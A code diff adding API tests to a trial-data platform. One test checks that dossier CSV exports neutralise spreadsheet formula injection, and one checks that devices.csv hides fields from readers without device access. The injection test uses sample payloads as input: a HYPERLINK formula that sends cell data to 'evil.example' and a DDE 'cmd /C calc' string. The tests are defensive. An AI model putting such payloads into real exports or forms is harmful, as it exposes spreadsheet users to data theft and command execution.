@@ -19,7 +19,7 @@ from livinglab_platform.registry.schemas import Role
 from livinglab_platform.trials import grants
 from livinglab_platform.trials.schemas import GrantCreate
 from tests.api.readings import insert_readings, trial_with_windows
-from tests.api.world import CLI, T0, World, add_device
+from tests.api.world import CLI, T0, World, add_device, trial_input
 
 FILES = ["README.txt", "trial.json", "audit.csv", "devices.csv", "data.parquet"]
 HOUR = timedelta(hours=1)
@@ -251,3 +251,81 @@ def test_a_trial_without_devices_has_an_empty_data_file(world: World):
     ]
     assert _csv(archive, "devices.csv") == []
     assert [r["action"] for r in _csv(archive, "audit.csv")] == ["create"]
+
+
+def test_the_dossiers_csvs_hold_no_formulas(client, world: World):
+    # A partner's text, as a spreadsheet would run it, in the trial's audit trail.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    partner = world.headers("partner")
+    trial = trial_input(title="@SUM(1+1)*cmd|' /C calc'!A0").model_dump(mode="json")
+    r = client.post("/api/v1/trials", headers=partner, json=trial)
+    assert r.status_code == 201, r.text
+    trial_id = r.json()["id"]
+    for action, reason in (("submit", formula), ("withdraw", "-1+1")):
+        r = client.post(
+            f"/api/v1/trials/{trial_id}/transitions",
+            headers=partner,
+            json={"action": action, "reason": reason},
+        )
+        assert r.status_code == 200, r.text
+    r = client.get(f"/api/v1/trials/{trial_id}/dossier", headers=partner)
+    assert r.status_code == 200, r.text
+    archive = zipfile.ZipFile(io.BytesIO(r.content))
+    for name in ("audit.csv", "devices.csv"):
+        for row in csv.reader(io.StringIO(archive.read(name).decode(), newline="")):
+            for cell in row:
+                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n"), (
+                    name,
+                    cell,
+                )
+    reasons = [row["reason"] for row in _csv(archive, "audit.csv")]
+    assert "'" + formula in reasons
+    assert "'-1+1" in reasons
+    # trial.json keeps the exact text.
+    assert json.loads(archive.read("trial.json"))["title"].startswith("@SUM")
+
+
+@pytest.mark.parametrize("who", ["researcher", "partner", "operator"])
+def test_devices_csv_shows_only_what_the_devices_api_shows(
+    client, world: World, who: str
+):
+    # ul-fe's researcher reads the trial through a grant, and gets 404 for both its devices.
+    trial_id = _trial(world)
+    with psycopg.connect(world.dsn) as conn:
+        grants.create_grant(
+            conn,
+            CLI,
+            trial_id,
+            grant=GrantCreate(
+                organisation_id="ul-fe", starts_at=T0, ends_at=T0 + 6 * HOUR
+            ),
+        )
+        conn.commit()
+    headers = world.headers(who)
+    r = client.get(f"/api/v1/trials/{trial_id}/dossier", headers=headers)
+    assert r.status_code == 200, r.text
+    devices = _csv(zipfile.ZipFile(io.BytesIO(r.content)), "devices.csv")
+    assert [d["device_id"] for d in devices] == ["dev-a", "dev-b"]
+    visible = 0
+    for row in devices:
+        # The assignment itself is in trial.json for every reader of the trial.
+        assert row["starts_at"].endswith("Z")
+        assert row["ends_at"].endswith("Z")
+        device = client.get(f"/api/v1/devices/{row['device_id']}", headers=headers)
+        if device.status_code == 404:
+            assert (
+                row["site_id"],
+                row["organisation_id"],
+                row["sensors"],
+                row["delivery_completeness"],
+            ) == ("", "", "", "")
+            continue
+        assert device.status_code == 200, device.text
+        visible += 1
+        shown = device.json()
+        assert row["site_id"] == shown["site_id"]
+        assert row["organisation_id"] == (shown["organisation_id"] or "")
+        assert row["sensors"] == "; ".join(
+            f"{s['key']} [{s['unit']}]" for s in shown["sensors"]
+        )
+    assert visible == (0 if who == "researcher" else 2)
